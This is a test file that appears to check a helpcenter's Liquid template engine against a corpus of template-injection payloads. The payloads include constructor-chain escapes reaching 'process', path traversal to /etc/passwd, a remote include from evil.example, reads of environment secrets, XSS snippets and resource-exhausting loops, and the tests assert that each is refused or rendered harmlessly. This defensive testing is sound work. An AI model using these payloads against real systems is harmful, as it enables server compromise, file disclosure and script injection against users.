/**
 * Template-injection corpus (the "Safety" acceptance), on both drivers: each payload is saved as
 * a theme's home template through the API and, when the save accepts it, rendered through the
 * pages' render path with the home page's sample data. A payload is either refused on save
 * (naming the template) or renders without executing anything, without printing anything
 * outside its page (process environment, globals, another page's or another theme's data), and
 * without hanging: the runaway ones end with the engine's limit error. Payloads refused on save
 * are also rendered straight through the engine, so the engine holds even without the check.
 */
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { createTestPlatform, ok, type TestDriver, type TestPlatform, type TestService } from '../../../core/testing.ts'
import ticket from '../../ticket/mod.ts'
import helpcenter from '../mod.ts'
import { TemplateError, uncachedTheme } from '../render/engine.ts'
import { samplePage } from '../render/samples.ts'
import { resolveFrom } from '../strings/resolve.ts'
import { renderPage } from './in-use.ts'

const drivers: [string, () => TestDriver][] = [
  ['pglite', () => 'pglite'],
  ['postgres', () => ({ postgresUrl: inject('pgUrl'), freshDatabase: true })],
]

const ENV_SECRET = 'ENV-SECRET-7f3a'
const GLOBAL_SECRET = 'GLOBAL-SECRET-7f3a'
const OTHER_THEME_SECRET = 'OTHER-THEME-SECRET-7f3a'

/** Payloads that may run to a limit: their render must end with the limit error. */
const RUNAWAY: Record<string, string> = {
  'a loop of a billion': '{% for i in (1..1000000000) %}x{% endfor %}',
  'nested empty loops': '{% for i in (1..100000) %}{% for j in (1..100000) %}{% endfor %}{% endfor %}',
  'a huge tablerow': '{% tablerow i in (1..100000000) %}{{ i }}{% endtablerow %}',
  'string doubling with append': '{% assign s = "xxxxxxxxxx" %}{% for i in (1..64) %}{% assign s = s | append: s %}{% endfor %}{{ s.size }}',
  'string doubling with capture': '{% assign s = "x" %}{% for i in (1..64) %}{% capture s %}{{ s }}{{ s }}{% endcapture %}{% endfor %}{{ s.size }}',
  'array doubling with concat': '{% assign a = "a,b" | split: "," %}{% for i in (1..64) %}{% assign a = a | concat: a %}{% endfor %}{{ a.size }}',
  'a date padded to a gigabyte': "{{ 'now' | date: '%1000000000Y' }}",
  'a page including itself': '{% include "home" %}',
}

/** Payloads that must not execute or leak, whether the save takes them or not. */
const PAYLOADS: Record<string, string> = {
  'constructor of an object': '{{ banner.constructor }}',
  'Function through constructor chains': '{{ banner.constructor.constructor }}{{ banner.title.constructor.constructor }}',
  'calling the Function constructor': '{{ banner.constructor.constructor("return process")() }}',
  'bracket access to __proto__': "{{ banner['__proto__'] }}{{ banner['__proto__']['constructor'] }}",
  'prototype of a list': '{{ recentNotices.constructor.prototype }}{{ recentNotices.__proto__.map }}',
  'toString and valueOf': '{{ banner.toString }}{{ banner.valueOf }}{{ banner.title.toString }}{{ recentNotices.first.valueOf }}',
  'hasOwnProperty and friends': '{{ banner.hasOwnProperty }}{{ banner.__defineGetter__ }}{{ banner.__lookupGetter__ }}',
  'map to constructor': "{{ recentNotices | map: 'constructor' | join: ',' }}{{ recentNotices | map: '__proto__' | first }}",
  'where on prototype keys': "{{ recentNotices | where: 'constructor' | size }}{{ recentNotices | where: '__proto__', 'x' | size }}",
  'sort on objects and prototype keys': "{{ banner | sort | join }}{{ recentNotices | sort: 'constructor' | size }}{{ hc | sort_natural: '__proto__' | size }}",
  'date with odd formats': "{{ 'now' | date: '%Y %s %N %Z %z %::z %c %%%%%%' }}{{ banner.title | date: '%Q%q%j' }}",
  'json of the page data': '{{ banner | json }}{{ recentNotices | json }}',
  'unknown filter': '{{ banner.title | eval }}',
  'a filter named after a function': "{{ banner.title | require: 'fs' }}",
  'include with ../': '{% include "../layout" %}',
  'render an absolute path': '{% render "/etc/passwd" %}',
  'include a URL': '{% include "https://evil.example/x.liquid" %}',
  'include a file URL': '{% include "file:///etc/passwd" %}',
  'layout outside the theme': "{% layout '../../../../etc/passwd' %}",
  'include constructor': '{% include "constructor" %}',
  'include __proto__': '{% include "__proto__" %}',
  'include another theme\'s template': '{% include "secret_partial" %}',
  'include a name built at render time': '{% assign p = "../lay" | append: "out" %}{% include p %}',
  'process and its environment': '{{ process.env.OC_INJECTION_SECRET }}{{ process }}',
  'globals by their names': '{{ global }}{{ globalThis.ocInjectionSecret }}{{ window }}{{ self }}{{ this }}',
  'the engine and its options': '{{ liquid }}{{ options }}{{ ctx }}{{ scope }}{{ environments }}',
  'another page\'s data': '{{ faq.body | raw }}{{ notice.body }}{{ inquiry.entries }}',
  'assign to prototype names': '{% assign __proto__ = "polluted" %}{% assign constructor = "x" %}{% assign toString = 1 %}{{ constructor }}',
  'forloop internals': '{% for n in recentNotices %}{{ forloop.constructor }}{{ forloop.parentloop.constructor }}{% endfor %}',
  'an assigned alias of page data': '{% assign x = banner %}{{ x.constructor }}{{ x.__proto__ }}',
  'script in output': '{{ "<script>alert(1)</script>" }}{{ "<img src=x onerror=alert(1)>" | raw }}{{ banner.title | prepend: "<svg onload=alert(1)>" | raw }}',
  'the liquid tag': '{% liquid\necho banner.constructor\necho process\n%}',
  'deep nesting': '{% if true %}'.repeat(5_000) + 'x' + '{% endif %}'.repeat(5_000),
  ...RUNAWAY,
}

/** What a harmless outcome never holds: secrets, code, another page's data, markup the payload wrote. */
const LEAKS = [ENV_SECRET, GLOBAL_SECRET, OTHER_THEME_SECRET, 'native code', 'function ', 'Open <strong>Settings', 'Open &lt;strong&gt;Settings', '<script>alert', '<img src=x', '<svg onload', '[object process]']

describe.each(drivers)('template-injection corpus on %s', (_name, driver) => {
  let tp: TestPlatform
  let svc: TestService
  const data = samplePage('home', { device: 'pc', language: 'ko', strings: resolveFrom([], 'ko', 'ko'), assets: { css: [], script: null } })
  const prototypeKeys = Object.getOwnPropertyNames(Object.prototype).sort()

  beforeAll(async () => {
    process.env.OC_INJECTION_SECRET = ENV_SECRET
    ;(globalThis as Record<string, unknown>).ocInjectionSecret = GLOBAL_SECRET
    tp = await createTestPlatform({ plugins: [ticket, helpcenter], driver: driver() })
    svc = await tp.service('inj-org', 'support', { plugins: ['ticket', 'helpcenter'] })
    // Another service's theme with a partial holding a secret, parsed and cached in this process.
    const other = await tp.service('inj-other', 'support', { plugins: ['ticket', 'helpcenter'] })
    const secretTheme = await ok(other.call('/helpcenter/themes', { body: { device: 'pc', title: 'Other', templates: { secret_partial: OTHER_THEME_SECRET, home: '{% include "secret_partial" %}' } } }), 201)
    expect(await renderPage({ key: `${secretTheme.id}@1`, templates: secretTheme.templates }, 'home', data)).toBe(OTHER_THEME_SECRET)
  })
  afterAll(async () => {
    delete process.env.OC_INJECTION_SECRET
    delete (globalThis as Record<string, unknown>).ocInjectionSecret
    await tp.close()
  })

  /** Renders and returns the output, or the engine's error; anything else thrown fails the test. */
  const attempt = async (render: () => Promise<string>): Promise<string | TemplateError> => {
    try {
      return await render()
    } catch (error) {
      expect(error).toBeInstanceOf(TemplateError)
      return error as TemplateError
    }
  }
  const expectHarmless = (outcome: string | TemplateError, name: string) => {
    const text = typeof outcome === 'string' ? outcome : outcome.message
    for (const leak of LEAKS) expect(text, `${name} printed ${leak}`).not.toContain(leak)
    if (RUNAWAY[name] !== undefined) {
      expect(outcome, `${name} must end with the limit error`).toBeInstanceOf(TemplateError)
      expect((outcome as TemplateError).limit, `${name}: ${(outcome as TemplateError).message}`).toBe(true)
    }
  }

  it.each(Object.keys(PAYLOADS))('%s: refused on save or rendered harmlessly', async (name) => {
    const payload = PAYLOADS[name]!
    const saved = await svc.call('/helpcenter/themes', { body: { device: 'pc', title: name.slice(0, 100), templates: { home: payload } } })
    if (saved.status === 201) {
      expectHarmless(await attempt(() => renderPage({ key: `${saved.body.id}@1`, templates: saved.body.templates }, 'home', data)), name)
    } else {
      expect(saved.status, JSON.stringify(saved.body)).toBe(422)
      expect(saved.body.error.code).toBe('HELPCENTER_TEMPLATE_INVALID')
      expect(saved.body.error.issues[0].path).toMatch(/^body\.templates\./)
    }
    // The engine alone, without the save-time check, holds as well.
    expectHarmless(await attempt(() => uncachedTheme({ home: payload, layout: '{{ content }}' }).render('home', data)), name)
    expect((globalThis as Record<string, unknown>).polluted).toBeUndefined()
    expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeKeys)
  })

  it('refuses on save what reads outside the page or the theme, and takes the runaway ones only to stop them', async () => {
    const refused = async (payload: string) => (await svc.call('/helpcenter/themes', { body: { device: 'pc', title: 'x', templates: { home: payload } } })).status
    for (const name of ['a page including itself', 'unknown filter', 'a filter named after a function', 'include with ../', 'render an absolute path', 'include a URL', 'include constructor', 'include another theme\'s template', 'process and its environment', 'globals by their names', 'the engine and its options', 'another page\'s data']) {
      expect(await refused(PAYLOADS[name]!), name).toBe(422)
    }
    expect(await refused(RUNAWAY['a loop of a billion']!)).toBe(201)
  })
})
